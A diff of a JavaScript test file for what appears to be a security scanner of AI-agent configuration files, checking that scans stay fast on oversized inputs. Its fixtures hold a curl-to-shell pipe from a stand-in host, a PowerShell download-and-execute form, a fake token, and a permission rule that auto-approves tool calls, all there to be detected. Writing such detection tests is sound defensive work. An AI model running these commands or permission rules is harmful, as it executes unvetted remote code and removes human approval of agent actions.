@@ -50,7 +50,7 @@ describe('a scan stays linear on the issue 15 repros', () => {
     ['a VS Code value of 4,000 Slack-like tokens (one input suggestion each)', { '.vscode/mcp.json': JSON.stringify({ servers: { demo: { command: 'node', args: ['a:xoxb-1234567890-1234567890-'.repeat(4_000)] }, unpinned: NPX } }) }, ['hardcoded-secret', 'unpinned-package']],
     ['a permission rule of "mcp__" repeated (auto-approve)', { '.claude/settings.json': JSON.stringify({ permissions: { allow: [`${'mcp__'.repeat(40_000)}\n`, 'mcp__github'] } }) }, ['auto-approve']],
     ['a SKILL.md pipe followed by blank lines (shell-pipe-install)', { '.claude/skills/s/SKILL.md': `${SKILL}curl https://x.example/i.sh |${' \n'.repeat(100_000)}sh\n` }, ['shell-pipe-install']],
-    ['a SKILL.md of "irm" downloads with no pipe (PowerShell forms)', { '.claude/skills/s/SKILL.md': `${SKILL}iex ${'irm"'.repeat(1_000_000)}\n` }, ['shell-pipe-install']],
+    ['a SKILL.md of "irm" downloads with no pipe (PowerShell forms)', { '.claude/skills/s/SKILL.md': `${SKILL}iex ${'irm"'.repeat(250_000)}\n` }, ['shell-pipe-install']],
   ];
   it.each(cases)('%s', (_, files, ruleIds) => {
     const r = timedRun(files);
